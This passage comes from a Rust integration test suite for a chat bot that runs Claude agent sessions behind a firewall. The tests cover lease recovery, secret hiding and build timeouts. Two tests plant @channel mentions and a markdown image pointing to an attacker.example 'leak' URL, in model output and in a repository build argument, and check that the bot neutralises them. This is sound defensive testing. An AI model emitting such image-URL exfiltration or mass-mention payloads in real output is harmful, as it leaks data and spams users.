        if inspect(&stack, &container).await["State"]["Running"] == Value::Bool(true) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the live session's container stayed stopped"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&live_root), "are you back")
        .expect("post");
    stack
        .wait_for_bot_post(
            "an answer after the container came back",
            Some(&live_root),
            "Back and running.",
        )
        .await;
    let metrics = reqwest::get(stack.app.as_ref().expect("app").url("/metrics"))
        .await
        .expect("metrics")
        .text()
        .await
        .expect("body");
    assert!(
        metrics
            .lines()
            .any(|l| l.starts_with("session_manager_reconciler_actions_total{action=\"removed\"}")),
        "the removal is counted: {metrics}"
    );
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&live_root), "!stop")
        .expect("post");
    stack
        .wait_for_state(&live.id, SessionState::Ended, Duration::from_secs(60))
        .await;
    stack.finish().await;
}

/// Attack 6: the bot is killed while it holds the firewall lease (the firewall hangs); after a
/// restart the approval still goes through once the lease has expired.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_bot_killed_while_holding_the_firewall_lease_never_blocks_approvals_for_good() {
    use support::mattermost::ClickOutcome;
    use support::opnsense::{Failure, FakeOpnsense, ALIAS};
    let tb = Testbed::load();
    let opn = FakeOpnsense::start("opn-key", "opn-secret").await;
    let script = ModelScript::new()
        .asks_for_pypi()
        .fallback(Reply::text("ok"));
    // The bot runs as a process (to be killed), listening where the cards point.
    let port = {
        let probe = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        probe.local_addr().expect("addr").port()
    };
    let mut stack = Stack::start_with(
        script,
        &[
            ("opnsense-url", opn.url()),
            ("opnsense-key", "opn-key".into()),
            ("opnsense-secret", "opn-secret".into()),
            ("callback-url", format!("http://127.0.0.1:{port}/callback")),
            ("listen-addr", format!("127.0.0.1:{port}")),
            ("firewall-lease-secs", "8".into()),
        ],
    )
    .await;
    let bot = stack.switch_to_process(&tb).await;
    let (channel, root) = stack.start_session("@claude start acme/widgets").await;
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "install requests")
        .expect("post");
    let card = stack
        .wait_for("the approval card", Duration::from_secs(120), |s| {
            s.fake.thread(&root).into_iter().find(|p| {
                p.props.to_string().contains("pypi.org") && p.props.to_string().contains("Approve")
            })
        })
        .await;
    // The firewall hangs on the next call: the bot takes the lease and waits on it.
    opn.fail_next("", 1, Failure::Timeout(Duration::from_secs(60)));
    let ClickOutcome::Ok { .. } = stack.fake.click(&card.id, "approve", &stack.alice).await else {
        panic!("the click failed")
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    while stack
        .store
        .lock_holder("firewall:alias")
        .await
        .expect("read")
        .is_none()
    {
        assert!(Instant::now() < deadline, "the bot never took the lease");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let dead_holder = stack
        .store
        .lock_holder("firewall:alias")
        .await
        .expect("read")
        .expect("held");
    bot.kill();

    // A new instance: the dead one's lease is still there, and expires.
    let restarted = BotProcess::start(&stack, &tb);
    stack
        .wait_for_bot_post(
            "the agent's answer after the approval went through",
            Some(&root),
            "Thanks, pypi.org works now.",
        )
        .await;
    assert!(opn.alias_content(ALIAS).contains(&"pypi.org".to_owned()));
    assert_ne!(
        stack
            .store
            .lock_holder("firewall:alias")
            .await
            .expect("read"),
        Some(dead_holder),
        "the dead instance's lease was taken over or released"
    );
    drop(restarted);
    stack.finish().await;
}

/// Attack 7: the agent's output mentions the whole channel and embeds an image whose URL would
/// be fetched from outside the firewall.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn agent_mentions_and_images_reach_the_thread_inert() {
    let script = ModelScript::new()
        .on_last_user(
            "say it",
            Reply::text(
                "Attention @here and @channel: see ![x](http://attacker.example/leak?d=1) now.",
            ),
        )
        .fallback(Reply::text("ok"));
    let stack = Stack::start(script).await;
    let (channel, root) = stack.start_session("@claude start acme/widgets").await;
    let session = stack.session_at(&channel, &root).await;
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "say it")
        .expect("post");
    let post = stack
        .wait_for_bot_post("the answer", Some(&root), "Attention @")
        .await;
    assert!(
        !post.message.contains("@here") && !post.message.contains("@channel"),
        "{}",
        post.message
    );
    assert!(post.message.contains("@\u{2060}here"), "{}", post.message);
    assert!(!post.message.contains("![x]"), "{}", post.message);
    assert!(
        post.message
            .contains("[x](http://attacker.example/leak?d=1)"),
        "{}",
        post.message
    );
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "!stop")
        .expect("post");
    stack
        .wait_for_state(&session.id, SessionState::Ended, Duration::from_secs(60))
        .await;
    stack.finish().await;
}

/// Attack 8 (eavesdropping on the VM): `ps` while a session with a `NAME=value` entry in
/// `SM_CONTAINER_ENV` starts never shows the value, and the agent still gets it.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ps_on_the_vm_never_shows_a_container_env_value() {
    let tb = Testbed::load();
    let secret = format!("s3cret-{}", uuid::Uuid::new_v4().simple());
    let script = ModelScript::new()
        .on_last_user(
            "show the secret's hash",
            Reply::bash("printf '%s' \"$SECRET_X\" | sha256sum | cut -c1-16; echo hashed"),
        )
        .on_tool_result("hashed", Reply::text("Hashed."))
        .fallback(Reply::text("ok"));
    let model_env = |model: &str| {
        format!(
            "ANTHROPIC_BASE_URL={model},ANTHROPIC_API_KEY=test-key,CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1,SECRET_X={secret}"
        )
    };
    // The model server's address is only known once it runs: start, then restart with the env.
    let mut stack = Stack::start(script).await;
    let env = model_env(&stack.model.url());
    stack.extra.push(("container-env".into(), env));
    let id = unique();
    let sampler_out = format!("/tmp/sm-ps-{id}");
    let _cleanup = VmCleanup {
        paths: vec![sampler_out.clone()],
        env_file: false,
    };
    // Sample every process's command line on the VM while the session starts.
    let sampler = {
        let vm = pool(&tb).expect("ssh");
        let mut s = Script::new();
        s.set("out", &sampler_out).expect("q");
        s.raw(r#"end=$((SECONDS + 90)); while [ $SECONDS -lt $end ] && [ ! -e "$out.stop" ]; do ps -eo args >> "$out"; sleep 0.05; done"#);
        tokio::spawn(async move {
            let _ = vm.run_with_timeout(&s, Duration::from_secs(120)).await;
            vm.close().await;
        })
    };
    let bot = stack.switch_to_process(&tb).await;
    let (channel, root) = stack.start_session("@claude start acme/widgets").await;
    stack
        .fake
        .post_as(
            &stack.alice,
            &channel,
            Some(&root),
            "show the secret's hash",
        )
        .expect("post");
    let output = wait_for_tool_output(&stack, "hashed").await;
    let mut s = Script::new();
    s.set("out", &sampler_out).expect("q");
    s.raw(r#"touch "$out.stop""#);
    stack.vm_run(&s).await;
    let _ = sampler.await;
    let expected = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(secret.as_bytes()))[..16].to_owned()
    };
    assert!(
        output.contains(&expected),
        "the agent got SECRET_X: {output}"
    );
    let mut s = Script::new();
    s.set("out", &sampler_out)
        .expect("q")
        .set("secret", &secret)
        .expect("q");
    s.raw(r#"echo "lines=$(wc -l < "$out")"; if grep -qF "$secret" "$out"; then echo SEEN; else echo unseen; fi; rm -f "$out.stop""#);
    let seen = stack.vm_run(&s).await.stdout;
    assert!(
        seen.contains("unseen"),
        "the value was on a command line on the VM: {seen}"
    );
    let lines: usize = seen
        .lines()
        .find_map(|l| l.strip_prefix("lines="))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    assert!(
        lines > 100,
        "the sampler saw the VM's processes ({lines} lines)"
    );
    let session = stack.session_at(&channel, &root).await;
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "!stop")
        .expect("post");
    stack
        .wait_for_state(&session.id, SessionState::Ended, Duration::from_secs(60))
        .await;
    drop(bot);
    stack.finish().await;
}

/// Attack 9 (a repository's words in the bot's own posts): a repository whose build argument
/// carries a mention and an image, and whose build fails. The failure the bot reports quotes
/// the CLI's command line, argument included; it notifies nobody and fetches nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_failing_repository_build_reaches_the_thread_inert() {
    let tb = Testbed::load();
    let id = unique();
    let stack = Stack::start(ModelScript::new().fallback(Reply::text("ok"))).await;
    let repo = format!("loud-{id}");
    // The build argument's name marks the image of the build's last good step.
    let arg = format!("G_{id}");
    let config = r#"{
    "build": { "dockerfile": "Dockerfile", "args": { "ARG_ID": "@channel ![x](http://attacker.example/arg.png)" } },
    "remoteUser": "claude"
}"#
    .replace("ARG_ID", &arg);
    let _cleanup = built_repo(
        &stack,
        &tb,
        &repo,
        &config,
        &format!("ARG {arg}\nRUN echo \"${arg}\" && false\n"),
    )
    .await;
    let failed = start_expecting_failure(&stack, &repo).await;
    let ended = stack
        .wait_for_bot_post("the end notice", Some(&failed.root_id), "Session ended")
        .await;
    // The repository's words did reach the thread (in the CLI's failed command).
    let thread: Vec<String> = stack
        .fake
        .thread(&failed.root_id)
        .into_iter()
        .filter(|p| p.user_id == stack.fake.bot_user_id())
        .map(|p| p.message)
        .collect();
    let all = thread.join("\n---\n");
    assert!(
        all.contains("@\u{2060}channel"),
        "the build argument is shown: {all}"
    );
    for post in [&failed.message, &ended.message]
        .into_iter()
        .chain(thread.iter())
    {
        for loud in ["@here", "@channel", "@all"] {
            assert!(
                !post.contains(loud),
                "{loud} reached the thread live: {post}"
            );
        }
        assert!(!post.contains("!["), "an image reached the thread: {post}");
    }
    // The failed build's last good step (`ARG`) is left as a dangling image; the session's
    // cleanup removes it (after any `devcontainer up` under way, hence the long bound).
    let mut dangling = Script::new();
    dangling.set("arg", &arg).expect("q");
    dangling.raw(r#"for i in $(podman images --all --quiet --filter dangling=true); do podman history --format '{{.CreatedBy}}' "$i" 2>/dev/null | grep -q "ARG $arg" && echo "$i"; done; true"#);
    let deadline = Instant::now() + Duration::from_secs(330);
    loop {
        let left = stack.vm_run(&dangling).await.stdout;
        if left.trim().is_empty() {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the failed build's image is still there: {left}"
        );
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    stack.finish().await;
}

/// Attack 10 (a build that never ends): the repository's Dockerfile sleeps. At
/// `SM_DEVCONTAINER_TIMEOUT_SECS` the start fails, the thread shows the step the CLI was
/// waiting on (the end of its log), and the build is stopped on the VM: nothing of it runs on.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_build_that_never_ends_is_stopped_at_the_bound_and_its_log_shown() {
    let tb = Testbed::load();
    let id = unique();
    let stack = Stack::start_with(
        ModelScript::new().fallback(Reply::text("ok")),
        &[("devcontainer-timeout-secs", "20".to_owned())],
    )
    .await;
    let repo = format!("stall-{id}");
    let marker = format!("sm-stalling-{id}");
    let _cleanup = built_repo(
        &stack,
        &tb,
        &repo,
        r#"{ "build": { "dockerfile": "Dockerfile" }, "remoteUser": "claude" }"#,
        &format!("RUN echo {marker} && sleep 3600\n"),
    )
    .await;
    let failed = start_expecting_failure(&stack, &repo).await;
    assert!(
        failed.message.contains("did not finish within 20 s"),
        "{}",
        failed.message
    );
    assert!(
        failed.message.contains(&marker),
        "the end of the CLI's log names the step: {}",
        failed.message
    );
    stack
        .wait_for_bot_post("the end notice", Some(&failed.root_id), "Session ended")
        .await;
    // The build's process is gone from the VM (the session's cleanup stopped `up`).
    let mut ps = Script::new();
    ps.raw("ps -eo args");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let out = stack.vm_run(&ps).await;
        let running: Vec<&str> = out
            .stdout
            .lines()
            .filter(|l| l.contains(&marker) || l.contains("sleep 3600"))
            .collect();
        if running.is_empty() {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the build still runs on the VM: {running:?}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    stack.finish().await;
}
